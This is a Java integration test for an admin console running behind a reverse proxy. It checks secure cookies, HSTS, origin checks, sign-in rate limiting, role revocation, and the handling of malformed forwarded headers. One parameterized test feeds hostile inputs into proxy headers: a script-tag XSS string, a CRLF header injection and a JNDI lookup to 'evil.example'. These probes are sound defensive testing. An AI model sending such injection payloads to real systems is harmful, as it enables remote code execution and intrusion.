package org.slipway.security;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.JsonValue;
import java.io.IOException;
import java.net.http.HttpRequest;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.slipway.testing.Answer;
import org.slipway.testing.SignInForm;
import org.slipway.testing.TestConsole;

/** A console that believes the proxy at 127.0.0.1, which this test is. */
class ProxyIT {
    private static final String[] TLS = {
        "X-Forwarded-For", "198.51.100.1", "X-Forwarded-Proto", "https", "X-Forwarded-Host", "slipway.example.org"
    };

    @TempDir
    static Path folder;

    private static TestConsole console;

    @BeforeAll
    static void start() throws IOException {
        Path users = Files.writeString(folder.resolve("users"), TestConsole.VIEWER_LINE);
        console = TestConsole.start(Map.of(
                "slipway.trusted-proxies", "127.0.0.0/8, ::1", "slipway.auth.local.users-file", users.toString()));
    }

    @AfterAll
    static void stop() {
        if (console != null) {
            console.close();
        }
    }

    @Test
    void behindAProxyThatEndsTlsCookiesAreSecureAndBrowsersInsistOnTls() {
        Answer signedIn = signIn(TestConsole.VIEWER_PASSWORD, TLS);

        assertThat(attributes(SignInForm.cookie(signedIn, "slipway-session")))
                .containsExactlyInAnyOrder("path=/", "httponly", "samesite=lax", "secure");
        assertThat(attributes(SignInForm.cookie(signedIn, "slipway-device")))
                .containsExactlyInAnyOrder("path=/", "max-age=7776000", "httponly", "samesite=lax", "secure");
        assertThat(signedIn.headers().allValues("Strict-Transport-Security")).containsExactly("max-age=31536000");
        assertThat(signedIn.header("Location")).isEqualTo("/admin");
    }

    @Test
    void behindAProxyWithoutTlsTheyAreNot() {
        Answer signedIn =
                signIn(TestConsole.VIEWER_PASSWORD, "X-Forwarded-For", "198.51.100.1", "X-Forwarded-Proto", "http");

        assertThat(attributes(SignInForm.cookie(signedIn, "slipway-session")))
                .containsExactlyInAnyOrder("path=/", "httponly", "samesite=lax");
        assertThat(signedIn.header("Strict-Transport-Security")).isNull();
    }

    @Test
    void addressesInTheApisAnswersAreThoseOfTheProxy() {
        console.write("V1__boat.sql", "CREATE TABLE boat (id int);");
        Answer accepted = console.send(console.request("/api/admin/migrations/run?wait=30s")
                .headers(TLS)
                .headers("Authorization", "Bearer " + console.token(), "Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(JsonValue.EMPTY_JSON_OBJECT.toString())));
        Answer list = console.send(console.request("/api/admin/runs?limit=1")
                .headers(TLS)
                .header("Authorization", "Bearer " + console.token()));

        assertThat(accepted.status()).isEqualTo(200);
        assertThat(list.header("Link")).startsWith("<https://slipway.example.org/api/admin/runs?");
    }

    @Test
    void aPostFromTheProxysOwnOriginIsNotForged() {
        Answer own = signOut("https://slipway.example.org");
        Answer other = signOut("http://slipway.example.org");

        assertThat(List.of(own.status(), other.status())).containsExactly(302, 403);
    }

    private static Answer signOut(String origin) {
        return console.send(console.request("/sign-out")
                .headers(TLS)
                .header("Origin", origin)
                .POST(HttpRequest.BodyPublishers.noBody()));
    }

    @Test
    void aFloodOfWrongPasswordsKeepsNoKnownBrowserAndNoOtherAddressOut() {
        String device = SignInForm.cookie(signIn(TestConsole.VIEWER_PASSWORD, from("192.0.2.1")), "slipway-device")
                .split(";")[0];
        List<String> flood = IntStream.range(0, 12)
                .mapToObj(i -> signIn("wrong", from("192.0.2.1")).body())
                .toList();

        assertThat(flood.get(0)).contains("Wrong user or password.");
        assertThat(flood.get(11)).contains("Too many tries to sign in.");
        assertThat(signIn(TestConsole.VIEWER_PASSWORD, "X-Forwarded-For", "192.0.2.1", "Cookie", device)
                        .status())
                .isEqualTo(302);
        assertThat(signIn(TestConsole.VIEWER_PASSWORD, from("192.0.2.2")).status())
                .isEqualTo(302);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "unknown",
                ",,,,",
                "1.2.3.4.5",
                "[",
                "]",
                "[]:x",
                "\"",
                "for=\"",
                "%0d%0aX: y",
                "::::",
                "99999999999",
                "${jndi:ldap://evil.example/}"
            })
    void malformedHeadersOfAProxyChangeNothing(String value) {
        Answer page = console.send(console.request("/admin")
                .headers("X-Forwarded-For", value, "X-Forwarded-Proto", value, "X-Forwarded-Host", value)
                .headers("X-Forwarded-Port", value, "Forwarded", value)
                .GET());
        Answer api = console.send(console.request("/api/admin/migrations/run")
                .headers("X-Forwarded-For", value, "X-Forwarded-Proto", value, "X-Forwarded-Host", value)
                .header("Authorization", "Bearer " + console.token())
                .GET());

        assertThat(page.status()).isEqualTo(302);
        assertThat(page.header("Location")).isEqualTo("/sign-in?return=%2Fadmin");
        assertThat(page.header("Strict-Transport-Security")).isNull();
        assertThat(api.status()).isEqualTo(200);
    }

    @Test
    void whoLosesTheRoleLosesItAtTheNextRequest() throws IOException {
        Path users = folder.resolve("users");
        String cookie = SignInForm.cookieOf(signIn(TestConsole.VIEWER_PASSWORD, from("192.0.2.9")));
        try {
            int asViewer = page(cookie);
            Files.writeString(users, TestConsole.VIEWER_LINE.replace(":viewer:", "::"));
            int withoutRole = page(cookie);
            Files.writeString(users, "");
            int takenAway = page(cookie);
            Files.writeString(users, TestConsole.VIEWER_LINE);

            assertThat(List.of(asViewer, withoutRole, takenAway, page(cookie)))
                    .as("ended sessions stay ended")
                    .containsExactly(200, 403, 302, 302);
        } finally {
            Files.writeString(users, TestConsole.VIEWER_LINE);
        }
    }

    private static int page(String cookie) {
        return console.send(console.request("/admin").header("Cookie", cookie).GET())
                .status();
    }

    private static String[] from(String address) {
        return new String[] {"X-Forwarded-For", address};
    }

    private static Answer signIn(String password, String... headers) {
        return SignInForm.submit(console, TestConsole.VIEWER, password, "", headers);
    }

    private static List<String> attributes(String cookie) {
        return IntStream.range(1, cookie.split("; ?").length)
                .mapToObj(i -> cookie.split("; ?")[i].toLowerCase(java.util.Locale.ROOT))
                .toList();
    }
}
